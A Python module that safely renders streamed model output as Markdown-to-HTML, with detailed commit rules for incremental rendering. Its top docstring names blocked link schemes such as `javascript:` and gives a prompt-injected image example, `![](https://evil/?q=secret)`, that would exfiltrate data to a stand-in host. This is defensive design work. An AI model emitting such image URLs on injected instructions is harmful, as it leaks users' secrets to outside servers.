"""Markdown to safe HTML, once (`render`) or incrementally while an answer streams in.

The dialect: CommonMark plus tables, strikethrough, task lists, footnotes (`[^x]`,
`^[inline]`) and `$…$` / `$$…$$` math. Model output is untrusted, so:

- raw HTML in the input is shown as text, never passed through (`html=False`);
- link targets with `javascript:`, `vbscript:`, `file:` or `data:` schemes (in any case,
  entity-encoded or with embedded whitespace/control characters) are dropped;
- every link gets `rel="noopener noreferrer nofollow"` and `target="_blank"`;
- images never load by themselves: a remote image would reach its server without a
  click, so a prompt-injected `![](https://evil/?q=secret)` could exfiltrate data. Only
  inline `data:image/(png|jpeg|gif|webp)` images render as `<img>`; every other image
  becomes a click-to-open link `<a class="cnb-img" href=…>🖼 alt</a>` (a `<span>` when it
  sits inside another link or its URL was refused);
- math is not typeset here and needs no network: `<span class="cnb-math">` and
  `<div class="cnb-math-block">` hold the escaped TeX source, readable as is in static
  output; a front end may typeset their text with a bundled, non-trusting renderer.

Code fences become `<pre class="highlight" data-lang="py"><code
class="language-py">…</code></pre>` with pygments class-based spans; the copyable
text is the `<code>` element's textContent.

Streaming (`StreamingMarkdown`) commits top-level blocks that can no longer change and
re-renders only the open tail, so an update costs about the same at 200 KB as at 2 KB
(one top-level block stays open until it ends: a single huge list is re-parsed whole).
After `finish()`, `.html == render(full_text)` byte for byte. The rules that make this
true (design.md §5; each one has a test that fails without it):

1. Block boundaries are decided on complete lines, plus one fact about the partial line:
   after a blank line, a line starting with a letter can only begin a new paragraph.
2. A boundary before a block is safe when the line before it is blank or the previous
   block ends exactly there (a reference definition's title may still continue).
3. The last complete block is settled when no later line can extend it: a closed fence,
   heading, rule or `$$` block (unless it is one line with a `|`: a delimiter row would
   make it a table header), or a paragraph, table or quote followed by a blank line.
4. Nothing is committed past a line holding `$$` (outside code and math) until a blank
   line follows it: dollarmath looks for the closing `$$` up to the next blank line, from
   list items and footnotes too (`allow_blank_lines=False` makes that bound exist).
5. The parser env (references, footnote ids) is carried into every later parse; when a
   committed chunk defines a reference label that earlier committed text mentions, all
   committed HTML is re-rendered and sent as `Patch.replace` (rare, explicit).
6. Footnote refs always match (`always_match_refs`), so a definition arriving later never
   changes committed text, and a definition never resets a number already given; the
   footnote footer lives in the tail and never renumbers.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from markdown_it.common.utils import MD_TRIM_RE
from markdown_it.token import Token

from ._md_engine import (FOOTNOTE_DEFS, MD, code_html, fence_lang, new_env, render_footnotes,
                         render_tokens)
from ._md_tail import TAIL

__all__ = ["Patch", "StreamingMarkdown", "render", "render_once"]

_MATH_BLOCKS = ("math_block", "math_block_label")
_VERBATIM = frozenset({"fence", "code_block", *_MATH_BLOCKS})  # no math can open inside
# Blocks that no following line can extend, and those a blank line ends for good (lists,
# footnote definitions and indented code may resume after blank lines).
_SELF_CLOSING = frozenset({"heading_open", "hr", "fence", *_MATH_BLOCKS})
_ENDED_BY_BLANK = _SELF_CLOSING | {"paragraph_open", "table_open", "blockquote_open"}
_NEWLINES = re.compile(r"\r\n?")
# An unindented fence opening; with a `|` a delimiter row could make the line a table.
_FENCE_OPENING = re.compile(r"(?P<marker>`{3,}|~{3,})(?P<info>[^\n|]*)\n")


# The last few documents a StreamingMarkdown finished: the static output at the end of a
# turn renders the same text again, and this hands it the identical HTML for free.
# Bounded in count and in size: a Chat never renders static output, so its entries stay
# until evicted (one 1 MB answer is ~1 M chars of text + ~4.4 M of HTML).
_RECENT: dict[str, str] = {}
_RECENT_MAX = 8
_RECENT_MAX_CHARS = 8_000_000


def _remember(text: str, html: str) -> None:
    if len(text) + len(html) > _RECENT_MAX_CHARS:
        return
    _RECENT[text] = html
    while len(_RECENT) > _RECENT_MAX or sum(
            len(k) + len(v) for k, v in _RECENT.items()) > _RECENT_MAX_CHARS:
        _RECENT.pop(next(iter(_RECENT)))


def render(text: str) -> str:
    """The full, final HTML of a Markdown document."""
    env = new_env()
    return render_tokens(MD.parse(text, env), env) + render_footnotes(env)


def render_once(text: str) -> str:
    """`render`, reusing the HTML a StreamingMarkdown already finished for this exact text
    (identical by construction) instead of rendering it a second time."""
    cached = _RECENT.pop(text, None)
    return cached if cached is not None else render(text)


@dataclass(frozen=True)
class Patch:
    """What changed in `StreamingMarkdown.html`, to apply in this order:

    `replace` (when not None) replaces all committed HTML, then `commit` is appended to
    the committed HTML for good, then `tail` replaces the previous tail.
    """

    commit: str = ""
    tail: str = ""
    replace: str | None = None


class StreamingMarkdown:
    """Incremental `render`: `feed()` deltas, then `finish()`.

    Each update re-parses only the uncommitted text (normally the last block or two),
    with the open tail stabilized for display (see `_md_tail`).
    """

    def __init__(self) -> None:
        self._env: dict[str, Any] = new_env()
        self._chunks: list[str] = []  # committed source, in block-aligned pieces
        self._committed_html: list[str] = []
        self._open = ""  # the uncommitted source; always starts at a line start
        self._held_cr = False  # a trailing "\r" may be the first half of "\r\n"
        self._tail = ""
        self._finished = False
        self._fed: list[str] = []  # the raw deltas, to key the finished HTML for `render`
        self._fence: _OpenFence | None = None  # set while `_open` is one unclosed fence

    @property
    def html(self) -> str:
        """Committed HTML plus the current tail (after `finish()`: `render(all text)`)."""
        return "".join(self._committed_html) + self._tail

    def feed(self, delta: str) -> Patch:
        """Add `delta`; cheap enough to call per SDK text delta, however small."""
        if self._finished:
            raise RuntimeError("StreamingMarkdown.feed() after finish()")
        self._fed.append(delta)
        text = self._normalize(delta)
        if not text:
            return Patch(tail=self._tail)
        new_line = "\n" in text or self._open.endswith("\n")
        self._open += text
        commit, replace = self._commit_settled() if new_line else ("", None)
        self._tail = self._render_tail()
        return Patch(commit, self._tail, replace)

    def finish(self) -> Patch:
        """Commit everything; afterwards `.html == render(all fed text)`."""
        if self._finished:
            return Patch(tail=self._tail)
        self._finished = True
        if self._held_cr:
            self._open += "\n"
        commit, replace = ("", None)
        if self._open:
            commit, replace = self._commit(self._open)
            self._open = ""
        self._tail = render_footnotes(self._env)
        _remember("".join(self._fed), self.html)
        self._fed = []
        return Patch(commit, self._tail, replace)

    # ------------------------------------------------------------ internals

    def _normalize(self, delta: str) -> str:
        """markdown-it's own newline normalization, applied across delta boundaries."""
        if self._held_cr:
            delta = "\r" + delta
        self._held_cr = delta.endswith("\r")
        if self._held_cr:
            delta = delta[:-1]
        return _NEWLINES.sub("\n", delta).replace("\0", "\ufffd")

    def _commit_settled(self) -> tuple[str, str | None]:
        complete = self._open.rfind("\n") + 1
        if self._fence is not None and not self._fence.closes(self._open, complete):
            return "", None  # still inside one open code fence: nothing can settle
        cut = _settled_length(self._open[:complete], self._open[complete : complete + 1])
        commit, replace = ("", None)
        if cut:
            chunk, self._open = self._open[:cut], self._open[cut:]
            commit, replace = self._commit(chunk)
        self._fence = _OpenFence.at_start_of(self._open[: complete - cut])
        return commit, replace

    def _commit(self, chunk: str) -> tuple[str, str | None]:
        """Parse `chunk` for good into the carried env; returns (commit, replace)."""
        known = set(self._env["references"])
        html = render_tokens(MD.parse(chunk, self._env), self._env)
        new_labels = set(self._env["references"]) - known
        earlier = _fold("".join(self._chunks)) if new_labels else ""
        self._chunks.append(chunk)
        if not any(label in earlier for label in new_labels):
            self._committed_html.append(html)
            return html, None
        source = "".join(self._chunks)
        self._env = new_env()
        html = render_tokens(MD.parse(source, self._env), self._env)
        self._chunks, self._committed_html = [source], [html]
        return "", html

    def _render_tail(self) -> str:
        if self._fence is not None:  # the common big tail: skip the parse
            code = self._open[self._open.index("\n") + 1 :]
            partial = code.rfind("\n") + 1
            if not code[partial:].strip(self._fence.marker + " \t"):
                code = code[:partial]  # maybe the closing fence, being typed
            return (code_html(code, self._fence.lang, highlighted=False)
                    + render_footnotes(self._env, live=True))
        env = _fork(self._env)
        html = render_tokens(MD.parse(self._open, env), env) if self._open else ""
        return html + render_footnotes(env, live=True)


@dataclass
class _OpenFence:
    """The uncommitted text is one top-level code fence still waiting for its closing line.

    Then no block can settle and the tail is that fence, so both are had without parsing:
    per update only the new lines are searched for a closing fence. Recognising fewer
    fences than markdown-it does only costs the fast path, never correctness: this state
    commits nothing.
    """

    marker: str
    closing: re.Pattern[str]
    lang: str
    scanned: int

    @classmethod
    def at_start_of(cls, src: str) -> _OpenFence | None:
        """The open fence that `src` (complete lines) consists of, if it is one."""
        opening = _FENCE_OPENING.match(src)
        if opening is None or (opening["marker"][0] == "`" and "`" in opening["info"]):
            return None
        marker = opening["marker"]
        closing = re.compile(rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}[ \t]*$", re.M)
        fence = cls(marker[0], closing, fence_lang(opening["info"]), opening.end())
        return None if fence.closes(src, len(src)) else fence

    def closes(self, src: str, end: int) -> bool:
        """Whether a closing fence line lies in `src[self.scanned:end]`; remembers the scan."""
        found = self.closing.search(src, self.scanned, end) is not None
        self.scanned = end
        return found


def _settled_length(src: str, next_char: str = "") -> int:
    """How many leading characters of `src` (complete lines only) form blocks that no
    later text can change; always 0 or the offset of a line start.

    `next_char` is the first character of the partial line after `src`, if any: a line
    that starts with a letter at column 0 can only begin a new paragraph.
    """
    tokens = MD.block.parse(src, MD, {}, []) or []
    blocks = [t for t in tokens if t.level == 0 and t.nesting >= 0 and t.map]
    lines = src.split("\n")
    line_count = len(lines) - 1
    blank = [not line.strip(" \t") for line in lines]
    # dollarmath looks for a closing `$$` until a blank line, also from inside list items
    # and footnotes, so a `$$` after the last blank line may still open a math block.
    verbatim = {n for b in blocks if b.type in _VERBATIM for n in range(*_span(b))}
    last_blank = max((n for n in range(line_count) if blank[n]), default=-1)
    may_open_math = next(
        (n for n in range(last_blank + 1, line_count) if "$$" in lines[n] and n not in verbatim),
        line_count,
    )
    if blocks and may_open_math == line_count and _ended(blocks[-1], lines, blank, next_char):
        return len(src)
    for j in range(len(blocks) - 1, 0, -1):
        start = _span(blocks[j])[0]
        if start <= may_open_math and (blank[start - 1] or _span(blocks[j - 1])[1] == start):
            return sum(len(line) + 1 for line in lines[:start])
    return 0


def _span(block: Token) -> tuple[int, int]:
    """A block token's source lines [start, end) (the blocks here are those with a map)."""
    start, end = block.map or (0, 0)
    return start, end


def _ended(block: Token, lines: list[str], blank: list[bool], next_char: str) -> bool:
    """Whether the last complete block can be continued by no later line."""
    line_count = len(lines) - 1
    if block.type == "fence" and not block.meta.get("closed"):
        return False
    start, end = _span(block)
    if end == line_count and block.type in _SELF_CLOSING:
        # a one-line block may still become a table header if a delimiter row follows
        return end - start > 1 or "|" not in lines[start]
    after_blank = line_count > 0 and blank[line_count - 1]
    return after_blank and (block.type in _ENDED_BY_BLANK or next_char.isalpha())


def _fold(text: str) -> str:
    """`text` folded like markdown-it folds reference labels, to search labels in it."""
    return MD_TRIM_RE.sub(" ", text).lower().upper()


def _fork(env: dict[str, Any]) -> dict[str, Any]:
    """A copy of the committed env that a tail parse may scribble on."""
    forked = {"references": dict(env["references"]), FOOTNOTE_DEFS: dict(env[FOOTNOTE_DEFS]),
              TAIL: True}
    notes = env.get("footnotes")
    if notes:
        forked["footnotes"] = {
            "refs": dict(notes["refs"]),
            "list": {n: dict(note) for n, note in notes["list"].items()},
        }
    return forked
